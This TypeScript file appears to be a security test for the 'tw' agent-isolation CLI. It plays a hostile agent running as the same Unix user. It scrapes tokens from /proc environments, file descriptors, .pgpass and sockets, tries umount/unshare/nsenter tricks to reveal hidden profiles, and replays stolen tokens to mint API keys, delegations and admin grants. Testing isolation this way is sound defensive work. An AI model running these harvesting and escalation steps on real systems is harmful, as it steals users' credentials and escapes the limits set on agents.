/**
 * A program that was started by `tw exec --as-agent` and wants to be the person: it is the same Unix user, knows the
 * product, and tries every file, socket, variable and command of the CLI. What it finds it writes as JSON; it is told no
 * secret beforehand.
 */
import { execFile, spawnSync } from "node:child_process";
import { readdirSync, readFileSync, readlinkSync, realpathSync, statSync } from "node:fs";
import { connect } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { ENTRIES } from "../src/commands/table.ts";

interface Target {
  /** Of the person. */
  readonly home: string;
  readonly bin: string;
  readonly baseUrl: string;
  readonly agentsBase: string;
  /** Where else to look for files. */
  readonly places: readonly string[];
  readonly commands: boolean;
}

const target = JSON.parse(process.argv[2] ?? "") as Target;
const run = promisify(execFile);
/** Access tokens, API keys, delegations, refresh tokens, connection secrets. */
const SECRETS = /eyJ[\w-]+\.[\w-]+\.[\w-]+|tw[a-z]_[A-Za-z0-9_-]{30,}/g;
const found = new Map<string, string>();

function look(where: string, text: string): void {
  for (const [secret] of text.matchAll(SECRETS)) if (!found.has(secret)) found.set(secret, where);
}

function lookAtFile(path: string): void {
  try {
    const file = statSync(path);
    // a pipe would wait for ever
    if (file.isFile() && file.size < 4 * 1024 * 1024) look(path, readFileSync(path, "latin1"));
  } catch {
    // not there, or not for us: the next one
  }
}

function walk(directory: string, depth: number, visit: (path: string) => void): void {
  if (depth < 0) return;
  let entries: import("node:fs").Dirent[];
  try {
    entries = readdirSync(directory, { withFileTypes: true });
  } catch {
    return;
  }
  for (const entry of entries) {
    const path = join(directory, entry.name);
    if (entry.isDirectory()) walk(path, depth - 1, visit);
    else visit(path);
  }
}

const sockets: string[] = [];
const config = join(target.home, ".config", "tidewaiter");

/** Variables. */
look("own environment", JSON.stringify(process.env));

/** Files: the person's home, the CLI's places, temporary directories, what was left open for us. */
for (const place of [target.home, target.agentsBase, ...target.places, process.cwd()]) {
  walk(place, 6, (path) => {
    try {
      if (statSync(path).isSocket()) sockets.push(path);
      else lookAtFile(path);
    } catch {
      // gone meanwhile
    }
  });
}
for (const fd of readdirSync("/proc/self/fd")) {
  if (Number(fd) > 2) lookAtFile(`/proc/self/fd/${fd}`);
}

/** Processes: arguments, environments, open files, their view of the file system, their memory. */
const processes: string[] = [];
for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
  if (Number(pid) === process.pid) continue;
  const proc = `/proc/${pid}`;
  try {
    processes.push(readFileSync(`${proc}/cmdline`, "latin1").replaceAll("\0", " ").trim());
    look(`${proc}/environ`, readFileSync(`${proc}/environ`, "latin1"));
    for (const fd of readdirSync(`${proc}/fd`)) {
      if (readlinkSync(`${proc}/fd/${fd}`).startsWith(target.home)) lookAtFile(`${proc}/fd/${fd}`);
    }
    walk(`${proc}/root${config}`, 3, lookAtFile);
    lookAtFile(`${proc}/root${target.home}/.pgpass`);
  } catch {
    // another user's
  }
}
const before = found.size;
const mine = [target.home, target.agentsBase, ...target.places];
const isOfOtherTests = (name: string): boolean =>
  name.startsWith(join(tmpdir(), "tidewaiter-")) && !mine.some((place) => name.startsWith(place));
for (const line of readFileSync("/proc/net/unix", "utf8").split("\n")) {
  const name = line.trim().split(/\s+/)[7];
  // those of servers that tests start, here and beside, are none of the product
  if (name?.includes("tidewaiter") && !name.includes(".s.PGSQL.") && !isOfOtherTests(name)) sockets.push(name);
}

/** Does anything of ours listen and say something? */
async function talk(path: string): Promise<void> {
  await new Promise<void>((resolve) => {
    const socket = connect(path.startsWith("@") ? `\0${path.slice(1)}` : path);
    socket.setTimeout(500, () => socket.destroy());
    socket.on("data", (data) => look(path, data.toString("latin1")));
    socket.on("error", () => {}).on("close", () => resolve());
    socket.end("GET / HTTP/1.0\r\n\r\n");
  });
}
for (const path of sockets) await talk(path);

/** Taking away what hides the person's files. */
const tricks = [
  ["umount", config],
  ["umount", "-l", config],
  ["unshare", "-Ur", "--mount", "sh", "-c", `umount ${config}; cat ${config}/profiles/*.json`],
  ["nsenter", "-t", "1", "-m", "cat", `${config}/profiles/ana.json`],
  ["sh", "-c", `cat ${config}/profiles/*.json /proc/1/root${config}/profiles/*.json`],
];
for (const [file = "", ...args] of tricks)
  look([file, ...args].join(" "), spawnSync(file, args, { encoding: "latin1" }).stdout ?? "");

/** Commands of the CLI, with the person's configuration and as nobody in particular. */
const person = {
  ...Object.fromEntries(Object.entries(process.env).filter(([name]) => !/^(TIDEWAITER_|PG)/.test(name))),
  HOME: target.home,
};
const PLAUSIBLE: Readonly<Record<string, readonly string[]>> = {
  connect: ["vault-db", "--url"],
  psql: ["vault-db", "--", "-c", "select 1"],
  exec: ["vault-db", "--", "env"],
  "api-keys add": ["ci", "--name", "x", "--ttl", "1h"],
  "principals add": ["evil", "--no-password"],
  "principals enable": ["ana"],
  "principals password": ["ana", "--password-file", "/etc/hostname"],
  "resources show": ["vault-db"],
  "resources check": ["vault-db"],
  "reviews approve": ["last"],
  "agent token": ["evil"],
  "delegations revoke": ["all"],
};
const SKIPPED = new Set(["demo attack"]);
const commands: { command: string; code: number; as: string | undefined }[] = [];
async function tryCommand(words: readonly string[], env: NodeJS.ProcessEnv) {
  const name = words.join(" ");
  const args = [
    target.bin,
    ...words,
    ...(PLAUSIBLE[name] ?? []),
    ...(PLAUSIBLE[name]?.includes("--") ? [] : ["--json"]),
  ];
  try {
    const { stdout, stderr } = await run(process.execPath, args, { env, timeout: 30_000 });
    look(`tw ${name}`, stdout + stderr);
    return { command: name, code: 0, as: identityIn(stdout) };
  } catch (error) {
    const { code, stdout = "", stderr = "" } = error as { code?: number; stdout?: string; stderr?: string };
    look(`tw ${name}`, stdout + stderr);
    return { command: name, code: Number(code ?? 1), as: undefined };
  }
}
function identityIn(text: string): string | undefined {
  return /"principal": ?{[^}]*"name": ?"([^"]+)"/.exec(text)?.[1];
}
if (target.commands) {
  const paths = ENTRIES.map(({ path }) => path.filter((word) => word !== undefined)).filter(
    (path) => !SKIPPED.has(path.join(" ")),
  );
  for (let from = 0; from < paths.length; from += 4) {
    commands.push(...(await Promise.all(paths.slice(from, from + 4).map((path) => tryCommand(path, person)))));
  }
  for (const name of ["ana", "admin"]) {
    const other = await tryCommand(["status", "--as", name], person);
    commands.push({ ...other, command: `status --as ${name}` });
  }
}

/** Saved connections of the person. */
const psql = async (conninfo: string, env: NodeJS.ProcessEnv = {}) => {
  try {
    const { stdout } = await run("psql", [conninfo, "-XAtc", "select current_user"], {
      env: { ...person, ...env },
      timeout: 20_000,
    });
    return `in: ${stdout.trim()}`;
  } catch (error) {
    return String((error as { stderr?: string }).stderr ?? error).trim();
  }
};
const saved = {
  "prod-db": await psql("service=prod-db"),
  "vault-db": await psql("service=vault-db"),
};

/** The API, with every secret that was found. */
const api = async (token: string, method: string, path: string, body?: unknown) => {
  const response = await fetch(`${target.baseUrl}${path}`, {
    method,
    headers: {
      authorization: `Bearer ${token}`,
      ...(body === undefined ? {} : { "content-type": "application/json" }),
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const text = await response.text();
  look(`${method} ${path}`, text);
  const json = text === "" ? {} : JSON.parse(text);
  return { status: response.status, json, code: json.code as string | undefined };
};
const identities: { where: string; name: string; onBehalfOf: string | undefined; attempts: Record<string, string> }[] =
  [];
const attempts: Readonly<Record<string, readonly [string, string, unknown?]>> = {
  "a secret for vault-db": ["POST", "/v1/connection-secrets", { resource: "vault-db" }],
  "a secret for ana": ["POST", "/v1/connection-secrets", { forPrincipal: "ana" }],
  "a delegation for vault-db": ["POST", "/v1/delegations", { agent: "coder", resources: ["vault-db"] }],
  "a longer delegation": ["POST", "/v1/delegations", { agent: "coder", ttlSeconds: 43_200 }],
  "an API key": ["POST", "/v1/api-keys", { principal: "ci", name: "evil", ttlSeconds: 3600 }],
  "a new password of ana": ["PUT", "/v1/principals/ana/password", { password: "a-hostile-password" }],
  "a weaker vault-db": ["PATCH", "/v1/resources/vault-db", { secrets: { presence: "none" } }],
  "a grant": ["POST", "/v1/grants", { principal: "coder", resource: "vault-db", level: "admin" }],
  "all principals": ["GET", "/v1/principals"],
  "all sessions": ["GET", "/v1/sessions"],
};
for (const [secret, where] of [...found]) {
  const me = await api(secret, "GET", "/v1/me").catch(() => undefined);
  if (me?.status !== 200) continue;
  const { name, onBehalfOf } = me.json.principal;
  const results: Record<string, string> = {};
  for (const [what, [method, path, body]] of Object.entries(attempts)) {
    const { status, code, json } = await api(secret, method, path, body);
    const seen = Array.isArray(json.sessions)
      ? ` ${[...new Set(json.sessions.map((s: { principal: string }) => s.principal))]}`
      : "";
    results[what] = `${status}${code === undefined ? "" : ` ${code}`}${seen}`;
  }
  const asToken = { PGPASSWORD: secret, PGSSLMODE: "require" };
  const endpoint = me.json.endpoints.postgres;
  for (const resource of ["prod-db", "vault-db"]) {
    const where_ = `host=${endpoint.host} port=${endpoint.port} dbname=${resource} user=token`;
    results[`${resource} by token`] = await psql(where_, asToken);
  }
  identities.push({ where, name, onBehalfOf: onBehalfOf?.name, attempts: results });
}
/** Connection secrets need no API: try each with the names that could own it. */
const native: Record<string, string> = {};
for (const [secret, where] of found) {
  if (!secret.startsWith("tws_")) continue;
  for (const user of ["ana", "ana/write", "coder+ana"]) {
    const known = identities[0];
    if (known === undefined) continue;
    const line = `host=127.0.0.1 port=${process.env.HOSTILE_PORT} dbname=vault-db user=${user}`;
    native[`${where} as ${user}`] = await psql(line, { PGPASSWORD: secret, PGSSLMODE: "require" });
  }
}

const own = realpathSync(process.env.TIDEWAITER_CONFIG_DIR ?? "/");
process.stdout.write(
  JSON.stringify({
    found: Object.fromEntries(found),
    before,
    processes,
    sockets,
    commands,
    saved,
    identities,
    native,
    own,
    environment: process.env,
  }),
);
